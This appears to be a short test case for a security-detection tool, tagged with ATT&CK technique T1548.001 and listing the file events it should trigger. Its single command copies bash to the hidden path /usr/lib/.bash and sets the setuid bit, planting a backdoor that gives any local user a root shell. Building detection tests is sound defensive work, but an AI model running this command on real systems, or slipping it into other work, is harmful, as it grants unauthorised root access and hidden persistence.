# title: a shell is left that makes everybody root
# attack: T1548.001
# workload: cron
# through: exec
# shows: file create /usr/lib/.bash by cp
# shows: file write /usr/lib/.bash (set-id) by chmod
cp /usr/bin/bash /usr/lib/.bash; chmod u+s /usr/lib/.bash
